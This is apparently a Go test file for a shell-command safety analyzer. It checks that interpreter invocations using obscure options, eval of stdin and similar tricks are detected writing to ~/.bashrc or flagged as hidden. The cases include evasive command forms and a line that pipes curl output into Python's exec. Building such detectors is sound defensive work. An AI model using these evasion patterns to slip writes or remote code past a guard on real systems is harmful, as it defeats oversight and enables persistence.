package shell

import (
	"errors"
	"slices"
	"testing"
)

// TestInterpreterGrammar: an interpreter's options are read with its own
// grammar, and the word after an option outside it is read as the program
// too.
func TestInterpreterGrammar(t *testing.T) {
	evil := `open("/home/u/.bashrc", "a")`
	clean := `print(1)`
	tests := []struct {
		name  string
		cmd   string
		files map[string]string
		write bool // writes /home/u/.bashrc
	}{
		{name: "python valued long option", cmd: `python3 --check-hash-based-pycs never e.py`, files: map[string]string{"e.py": evil}, write: true},
		{name: "python glued long option", cmd: `python3 --check-hash-based-pycs=never e.py`, files: map[string]string{"e.py": evil}, write: true},
		{name: "python unknown options", cmd: `python3 --a1 v1 --a2 v2 e.py`, files: map[string]string{"e.py": evil}, write: true},
		{name: "python unknown option, program first", cmd: `python3 --a1 e.py arg`, files: map[string]string{"e.py": evil}, write: true},
		{name: "python unknown short in a cluster", cmd: `python3 -BZ v e.py`, files: map[string]string{"e.py": evil}, write: true},
		{name: "python clean", cmd: `python3 --check-hash-based-pycs never c.py`, files: map[string]string{"c.py": clean}},
		{name: "node -C", cmd: `node -C development e.js`, files: map[string]string{"e.js": evil}, write: true},
		{name: "node --conditions", cmd: `node --conditions development e.js`, files: map[string]string{"e.js": evil}, write: true},
		{name: "node --input-type", cmd: `node --input-type module e.js`, files: map[string]string{"e.js": evil}, write: true},
		{name: "node V8 option", cmd: `node --stack-size 4000 e.js`, files: map[string]string{"e.js": evil}, write: true},
		{name: "node V8 option, the value a file", cmd: `node --stack-size e.js x`, files: map[string]string{"e.js": evil}, write: true},
		{name: "node --eval=", cmd: `node --eval='` + evil + `'`, write: true},
		{name: "node clean", cmd: `node -C development s.js`, files: map[string]string{"s.js": clean}},
		{name: "perl -x", cmd: `perl -x e.pl`, files: map[string]string{"e.pl": "#!perl\n" + evil}, write: true},
		{name: "perl -x/dir", cmd: `perl -x/tmp e.pl`, files: map[string]string{"e.pl": "#!perl\n" + evil}, write: true},
		{name: "perl -e twice", cmd: `perl -e 1 -e '` + evil + `'`, write: true},
		{name: "php -f", cmd: `php -f e.php`, files: map[string]string{"e.php": evil}, write: true},
		{name: "php -fFILE", cmd: `php -fe.php`, files: map[string]string{"e.php": evil}, write: true},
		{name: "php -F", cmd: `php -F e.php`, files: map[string]string{"e.php": evil}, write: true},
		{name: "php -B code", cmd: `php -B '` + evil + `' -R 1`, write: true},
		{name: "php -E after -R", cmd: `php -R 1 -E '` + evil + `'`, write: true},
		{name: "php -F after -B", cmd: `php -B 1 -F e.php`, files: map[string]string{"e.php": evil}, write: true},
		{name: "ruby -C dir", cmd: `ruby -C d e.rb`, files: map[string]string{"d/e.rb": evil}, write: true}, // the program is looked up after the chdir
		{name: "ruby --enable", cmd: `ruby --enable frozen-string-literal e.rb`, files: map[string]string{"e.rb": evil}, write: true},
		{name: "lua unknown option", cmd: `lua -Q x e.lua`, files: map[string]string{"e.lua": evil}, write: true},
	}
	for _, tc := range tests {
		a, _ := analyzeWith(tc.cmd, tc.files)
		if got := slices.Contains(a.Writes, "/home/u/.bashrc"); got != tc.write {
			t.Errorf("%s: %s: writes %q, want /home/u/.bashrc among them = %v (err %v)", tc.name, tc.cmd, a.Writes, tc.write, a.Err)
		}
		if !tc.write && a.Err != nil {
			t.Errorf("%s: %s: err %v, want none", tc.name, tc.cmd, a.Err)
		}
	}
}

// TestInterpreterGrammarBound: past maxProgCandidates options guard does
// not know, what runs is hidden.
func TestInterpreterGrammarBound(t *testing.T) {
	a, _ := analyzeWith(`python3 --a v --b v --c v --d v --e v x.py`, nil)
	if !errors.Is(a.Err, ErrHidden) {
		t.Errorf("err %v, want hidden", a.Err)
	}
}

// TestEvaluatedFeed: code that evaluates text it reads runs, as code,
// every file the command feeds it; what none of these gives is hidden.
func TestEvaluatedFeed(t *testing.T) {
	evil := `open("/home/u/.bashrc", "a")`
	tests := []struct {
		name   string
		cmd    string
		files  map[string]string
		write  bool
		hidden bool
	}{
		{name: "stdin redirect", cmd: `python3 -c 'import sys; exec(sys.stdin.read())' < zm.txt`, files: map[string]string{"zm.txt": evil}, write: true},
		{name: "a pipe", cmd: `cat zm.txt | python3 -c 'exec(input())'`, files: map[string]string{"zm.txt": evil}, write: true},
		{name: "a file loader", cmd: `python3 -c 'import importlib.machinery as m; m.SourceFileLoader("x", "zm.txt").load_module()'`, files: map[string]string{"zm.txt": evil}, write: true},
		{name: "getattr", cmd: `python3 -c 'import builtins; getattr(builtins, "exec")(open("zm.txt").read())'`, files: map[string]string{"zm.txt": evil}, write: true},
		{name: "a program file", cmd: `python3 run.py < zm.txt`, files: map[string]string{"run.py": "import sys\nexec(sys.stdin.read())\n", "zm.txt": evil}, write: true},
		{name: "perl backquotes", cmd: "perl -e 'eval `cat y.txt`'", files: map[string]string{"y.txt": evil}, write: true},
		{name: "perl STDIN", cmd: `perl -e 'eval join "", <STDIN>' < y.txt`, files: map[string]string{"y.txt": evil}, write: true},
		{name: "ruby", cmd: `ruby -e 'eval(STDIN.read)' < y.rb`, files: map[string]string{"y.rb": evil}, write: true},
		{name: "a program's output", cmd: `curl -s https://example.com | python3 -c 'exec(input())'`, hidden: true},
		{name: "nothing fed", cmd: `python3 -c 'import sys; exec(sys.argv[1])' "$X"`, hidden: true},
		{name: "a clean snippet", cmd: `python3 -c 'import sys; exec(sys.stdin.read())' < s.py`, files: map[string]string{"s.py": "print(1)"}},
		{name: "text given", cmd: `echo 1+2 | python3 -c 'print(eval(input()))'`},
		{name: "data, no evaluation", cmd: `python3 -c 'import json, sys; json.load(sys.stdin)' < zm.txt`, files: map[string]string{"zm.txt": evil}},
	}
	for _, tc := range tests {
		a, _ := analyzeWith(tc.cmd, tc.files)
		if got := slices.Contains(a.Writes, "/home/u/.bashrc"); got != tc.write {
			t.Errorf("%s: %s: writes %q, want /home/u/.bashrc among them = %v (err %v)", tc.name, tc.cmd, a.Writes, tc.write, a.Err)
		}
		if hidden := errors.Is(a.Err, ErrHidden); hidden != tc.hidden {
			t.Errorf("%s: %s: hidden = %v (%v), want %v", tc.name, tc.cmd, hidden, a.Err, tc.hidden)
		}
	}
}
